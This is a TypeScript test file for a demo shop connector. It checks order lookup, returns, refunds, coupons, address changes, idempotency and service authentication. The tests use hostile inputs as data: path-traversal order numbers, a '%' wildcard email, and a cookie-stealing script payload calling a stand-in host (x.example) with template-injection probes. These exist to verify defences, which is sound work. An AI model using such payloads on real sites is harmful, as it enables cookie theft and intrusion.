import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { DatabaseSync } from 'node:sqlite'
import { afterEach, beforeEach, expect, it } from 'vitest'
import {
  ConnectorFailure,
  type ReturnRequest,
  type ShopConnector,
  withoutActions,
} from '../connectors/index.ts'
import { openDemoShop } from './demo-shop.ts'
import { startShopService } from './shop-service/service.ts'

const day = Date.parse('2026-11-21T12:00:00Z')
const report = (reason: unknown, about: string) => {
  throw new Error(about, { cause: reason })
}
const soon = () => AbortSignal.timeout(10_000)
const emma = { email: 'emma@example.com' }
const siyuan = { email: 'siyuan.li@example.org' }
const oliver = { email: 'oliver.hughes@example.net' }

let directory: string
let shop: Required<ShopConnector>
let now: number

beforeEach(async () => {
  directory = await mkdtemp(join(tmpdir(), 'baton-shop-'))
  now = day
  await open()
})
afterEach(async () => {
  await shop.close()
  await rm(directory, { recursive: true, force: true })
})

async function open(): Promise<void> {
  const opened = await openDemoShop({ dataDirectory: directory, now: () => now, report })
  expect(Object.keys(opened).sort()).toEqual([
    'addresses',
    'close',
    'coupons',
    'delivery',
    'name',
    'orderExample',
    'orders',
    'products',
    'refunds',
    'returns',
  ])
  shop = opened as Required<ShopConnector>
}

async function refusalOf(work: Promise<unknown>): Promise<string> {
  const reason = await work.then(
    (answer) => answer,
    (failure: unknown) => failure,
  )
  expect(reason).toBeInstanceOf(ConnectorFailure)
  expect((reason as ConnectorFailure).kind).toBe('refused')
  return (reason as ConnectorFailure).message
}

/** Rows of a table in the shop's own store. */
function count(table: string): number {
  const database = new DatabaseSync(join(directory, 'demo-shop.sqlite'), { readOnly: true })
  const row = database.prepare(`select count(*) as number from ${table}`).get()
  database.close()
  return Number(row?.number)
}

it('an order is found by its number and e-mail address, in any capitals', async () => {
  const found = await shop.orders.find('nl-100201', { email: ' Emma@Example.com ' }, soon())
  expect(found).toEqual({
    number: 'NL-100201',
    status: 'shipped',
    items: [
      {
        id: '1',
        name: { en: 'Aurora 2 tent', zh: '极光 Aurora 2 双人帐篷' },
        quantity: 1,
        price: { amount: 28_900, currency: 'USD' },
      },
      {
        id: '2',
        name: expect.objectContaining({ en: 'Lumen headlamp' }),
        quantity: 1,
        price: { amount: 4_900, currency: 'USD' },
      },
    ],
    total: { amount: 35_300, currency: 'USD' },
    placedAt: Date.parse('2026-11-19T08:42:17Z'),
    carrier: 'Harbourline Express',
    trackingNumber: 'HX576132629NL',
    expectedFrom: '2026-11-20',
    expectedUntil: '2026-11-23',
  })
})

it('somebody else’s order is what an unknown one is, wherever it is asked about (invariant 12)', async () => {
  const request: Omit<ReturnRequest, 'number'> = { items: [], reason: 'unwanted', customer: emma }
  const address = { name: 'E', lines: ['1 Street'], city: 'Leeds', postalCode: 'LS1', country: 'GB' }
  const money = { amount: 100, currency: 'USD' }
  for (const number of [
    'NL-100206',
    'NL-100207',
    'NL-999999',
    '',
    '.',
    '..',
    '../products',
    'NL-100201/../NL-100206',
  ]) {
    expect(await shop.orders.find(number, emma, soon())).toBeUndefined()
    expect(await shop.delivery.track(number, emma, soon())).toBeUndefined()
    expect(await shop.addresses.check(number, emma, soon())).toBeUndefined()
    expect(await shop.returns.check({ ...request, number }, soon())).toBeUndefined()
    expect(await refusalOf(shop.returns.start({ ...request, number }, `return ${number}`, soon()))).toBe(
      'unknown-order',
    )
    const change = shop.addresses.change({ number, customer: emma, address }, `address ${number}`, soon())
    expect(await refusalOf(change)).toBe('unknown-order')
    const refund = shop.refunds.refund(
      { number, customer: emma, amount: money, reason: '' },
      `refund ${number}`,
      soon(),
    )
    expect(await refusalOf(refund)).toBe('unknown-order')
  }
})

it('a customer’s orders come newest first, and nobody else’s', async () => {
  const list = await shop.orders.list(emma, soon())
  expect(list.length).toBeGreaterThan(1)
  expect(list[0]?.number).toBe('NL-100201')
  const times = list.map((each) => each.placedAt ?? 0)
  expect(times).toEqual([...times].sort((one, other) => other - one))
  expect(await shop.orders.list({ email: 'nobody@example.com' }, soon())).toEqual([])
  expect(await shop.orders.list({ email: '%' }, soon())).toEqual([])
})

it('parcels: on the way, delivered, in two parts, and none before it is sent', async () => {
  const track = (number: string, email: string) => shop.delivery.track(number, { email }, soon())
  expect(await track('NL-100201', emma.email)).toMatchObject([
    { status: 'in-transit', trackingNumber: 'HX576132629NL' },
  ])
  expect(await track('NL-100206', siyuan.email)).toMatchObject([
    { status: 'delivered', deliveredOn: '2026-11-12' },
  ])
  const parts = await track('NL-100208', 'yawen.zhang@example.com')
  expect(parts?.map((each) => each.status)).toEqual(['in-transit', 'preparing'])
  expect(await track('NL-100207', oliver.email)).toEqual([])
})

it('products are found in both languages, best first, and by their id', async () => {
  const names = async (text: string, language: 'en' | 'zh') =>
    (await shop.products.search(text, language, soon())).map((each) => each.id)
  expect((await names('a tent for two persons', 'en'))[0]).toBe('aurora-2-tent')
  expect((await names('双人帐篷', 'zh'))[0]).toBe('aurora-2-tent')
  expect(await names('headlamps', 'en')).toContain('lumen-headlamp')
  expect(await names('头灯', 'zh')).toContain('lumen-headlamp')
  expect(await names('', 'en')).toEqual([])
  expect(await names('🏔️', 'en')).toEqual([])
  expect((await names('waterproof jacket tent shoe stove', 'en')).length).toBeLessThanOrEqual(8)
  const boreal = await shop.products.find('boreal-3-tent', soon())
  expect(boreal).toMatchObject({
    availability: 'out-of-stock',
    availableFrom: '2026-12-14',
    price: { amount: 57_900 },
  })
  expect(await shop.products.find('nothing', soon())).toBeUndefined()
  expect(await shop.products.find('..', soon())).toBeUndefined()
})

it('a return is checked, started, and then on its way', async () => {
  const request: ReturnRequest = {
    number: 'NL-100206',
    customer: siyuan,
    items: [{ id: '1', quantity: 1 }],
    reason: 'wrong-size',
  }
  const terms = {
    allowed: true,
    until: '2026-12-12',
    refund: { amount: 12_400, currency: 'USD' },
    cost: { amount: 500, currency: 'USD' },
  }
  expect(await shop.returns.check(request, soon())).toEqual(terms)
  expect(count('product_return')).toBe(0)
  const started = await shop.returns.start(request, 'key 1', soon())
  expect(started).toEqual({ id: expect.stringMatching(/^RT-\w{8}$/), terms })
  expect(await shop.returns.check(request, soon())).toEqual({ allowed: false, refusal: 'already-returned' })
  expect(await refusalOf(shop.returns.start(request, 'key 2', soon()))).toBe('already-returned')
})

it('a return outside the window is refused with the day it ended', async () => {
  const request: ReturnRequest = {
    number: 'NL-100220',
    customer: await ownerOf('NL-100220'),
    items: [],
    reason: 'unwanted',
  }
  expect(await shop.returns.check(request, soon())).toEqual({
    allowed: false,
    refusal: 'window-over',
    until: '2026-10-22',
  })
  expect(await refusalOf(shop.returns.start(request, 'key', soon()))).toBe('window-over')
})

it('fifty starts with one key at the same time are one return (idempotency)', async () => {
  const request: ReturnRequest = { number: 'NL-100206', customer: siyuan, items: [], reason: 'unwanted' }
  const all = await Promise.all(
    Array.from({ length: 50 }, () => shop.returns.start(request, 'one key', soon())),
  )
  expect(new Set(all.map((each) => each.id)).size).toBe(1)
  expect(count('product_return')).toBe(1)
})

it('fifty refunds with one key are one, and with fifty keys never more than was paid', async () => {
  const request = {
    number: 'NL-100207',
    customer: oliver,
    amount: { amount: 1_000, currency: 'USD' },
    reason: 'late',
  }
  const same = await Promise.all(
    Array.from({ length: 50 }, () => shop.refunds.refund(request, 'same', soon())),
  )
  expect(new Set(same.map((each) => each.id)).size).toBe(1)
  const results = await Promise.allSettled(
    Array.from({ length: 50 }, (_, index) => shop.refunds.refund(request, `key ${index}`, soon())),
  )
  // 96 dollars were paid: one refund of ten is made, eight more fit.
  expect(results.filter((each) => each.status === 'fulfilled')).toHaveLength(8)
  expect(count('refund')).toBe(9)
  const rest = { ...request, amount: { amount: 600, currency: 'USD' } }
  await shop.refunds.refund(rest, 'the rest', soon())
  expect(await refusalOf(shop.refunds.refund(rest, 'once more', soon()))).toBe('nothing-to-refund')
  expect((await shop.orders.find('NL-100207', oliver, soon()))?.status).toBe('refunded')
})

it('a key remembers its first result over a restart, a refusal too, and refuses another request', async () => {
  const coupon = { customer: emma, percent: 10, reason: 'late parcel' }
  const first = await shop.coupons.issue(coupon, 'coupon key', soon())
  expect(first).toEqual({ code: expect.stringMatching(/^NL-\w{8}$/), validUntil: '2027-02-19' })
  const address = { name: 'O', lines: ['1 Street'], city: 'Lyon', postalCode: '69001', country: 'FR' }
  const change = { number: 'NL-100207', customer: oliver, address }
  expect(await refusalOf(shop.addresses.change(change, 'abroad', soon()))).toBe('other-country')
  await shop.close()
  await open()
  expect(await shop.coupons.issue(coupon, 'coupon key', soon())).toEqual(first)
  expect(await refusalOf(shop.coupons.issue({ ...coupon, percent: 20 }, 'coupon key', soon()))).toBe(
    'key-reused',
  )
  expect(await refusalOf(shop.addresses.change(change, 'abroad', soon()))).toBe('other-country')
  expect(count('coupon')).toBe(1)
})

it('an address changes until the order is packed, within its country', async () => {
  const to = {
    name: 'Oliver Hughes',
    lines: ['2 Mill Lane', 'Flat 3'],
    city: 'York',
    postalCode: 'YO1 7HH',
    country: 'GB',
  }
  const before = await shop.addresses.check('NL-100207', oliver, soon())
  expect(before).toMatchObject({ allowed: true, current: { name: 'Oliver Hughes', country: 'GB' } })
  expect(
    await shop.addresses.change({ number: 'NL-100207', customer: oliver, address: to }, 'move', soon()),
  ).toEqual(to)
  expect((await shop.addresses.check('NL-100207', oliver, soon()))?.current).toEqual(to)
  const packed = { number: 'NL-100205', customer: { email: 'sofia.rossi@example.net' } }
  expect(await shop.addresses.check(packed.number, packed.customer, soon())).toMatchObject({
    allowed: false,
    refusal: 'already-packed',
  })
  const late = shop.addresses.change({ ...packed, address: { ...to, country: 'IT' } }, 'late', soon())
  expect(await refusalOf(late)).toBe('already-packed')
})

it('a coupon above the shop’s own bound is refused', async () => {
  const issue = (more: object) =>
    shop.coupons.issue({ customer: emma, reason: 'x', ...more }, JSON.stringify(more), soon())
  expect(await refusalOf(issue({ percent: 31 }))).toBe('above-limit')
  expect(await refusalOf(issue({ amount: { amount: 10_001, currency: 'USD' } }))).toBe('above-limit')
  expect(await refusalOf(issue({ amount: { amount: 100, currency: 'EUR' } }))).toBe('invalid')
  expect(await refusalOf(issue({}))).toBe('invalid')
  expect(await issue({ amount: { amount: 800, currency: 'USD' } })).toMatchObject({
    validUntil: '2027-02-19',
  })
})

it('days move with the calendar, until somebody did something with the order', async () => {
  now = day + 100 * 24 * 60 * 60 * 1000
  const moved = await shop.orders.find('NL-100201', emma, soon())
  expect(moved).toMatchObject({ status: 'shipped', expectedFrom: '2027-02-28', expectedUntil: '2027-03-03' })
  const request: ReturnRequest = {
    number: 'NL-100206',
    customer: siyuan,
    items: [{ id: '2', quantity: 1 }],
    reason: 'unwanted',
  }
  expect((await shop.returns.check(request, soon()))?.until).toBe('2027-03-22')
  await shop.returns.start(request, 'key', soon())
  now += 31 * 24 * 60 * 60 * 1000
  expect((await shop.returns.check(request, soon()))?.refusal).toBe('window-over')
})

it('a script in a field is the same text at the end, byte for byte (invariant 11)', async () => {
  const script = `<script>fetch("//x.example/?"+document.cookie)</script>\u202e'"\\\u0000 {{7*7}} ‮`.trim()
  const to = { name: script, lines: [script], city: 'York', postalCode: 'YO1', country: 'GB' }
  const changed = await shop.addresses.change(
    { number: 'NL-100207', customer: oliver, address: to },
    'x',
    soon(),
  )
  expect(changed).toEqual(to)
  expect((await shop.addresses.check('NL-100207', oliver, soon()))?.current).toEqual(to)
})

it('without actions it can be asked, and does nothing', async () => {
  const reading = withoutActions(shop)
  expect(await reading.orders?.find('NL-100201', emma, soon())).toMatchObject({ status: 'shipped' })
  expect(reading.coupons).toBeUndefined()
  expect(reading.refunds).toBeUndefined()
  const request: ReturnRequest = { number: 'NL-100206', customer: siyuan, items: [], reason: 'unwanted' }
  expect((await reading.returns?.check(request, soon()))?.allowed).toBe(true)
  expect(await refusalOf(reading.returns?.start(request, 'key', soon()) ?? Promise.resolve())).toBe(
    'read-only',
  )
  expect(count('product_return')).toBe(0)
})

it('the service answers nobody without its key, not even with its description', async () => {
  const settings = {
    file: join(directory, 'other.sqlite'),
    seed: join(import.meta.dirname, '../../knowledge-base/shop'),
    report,
  }
  const service = await startShopService(settings)
  const status = async (headers: Record<string, string>, path = '/openapi.json') =>
    (await fetch(service.origin + path, { headers })).status
  expect(await status({})).toBe(401)
  expect(await status({ authorization: 'Bearer ' })).toBe(401)
  expect(await status({ authorization: `Bearer ${service.key}x` })).toBe(401)
  expect(await status({ authorization: service.key })).toBe(401)
  expect(await status({ authorization: `Bearer ${service.key}` })).toBe(200)
  expect(await status({}, '/orders/NL-100201?email=emma@example.com')).toBe(401)
  const action = await fetch(`${service.origin}/coupons`, {
    method: 'POST',
    headers: { authorization: `Bearer ${service.key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ email: 'a@example.com', percent: 5, reason: 'x' }),
  })
  expect(action.status).toBe(400)
  await service.close()
})

it('a directory that cannot be used is said in a sentence', async () => {
  const opening = openDemoShop({ dataDirectory: '/dev/null/data', now: () => now, report })
  await expect(opening).rejects.toThrow(/DATA_DIR/)
})

async function ownerOf(number: string) {
  const database = new DatabaseSync(join(directory, 'demo-shop.sqlite'), { readOnly: true })
  const row = database.prepare('select email from customer_order where number = ?').get(number)
  database.close()
  return { email: String(row?.email) }
}
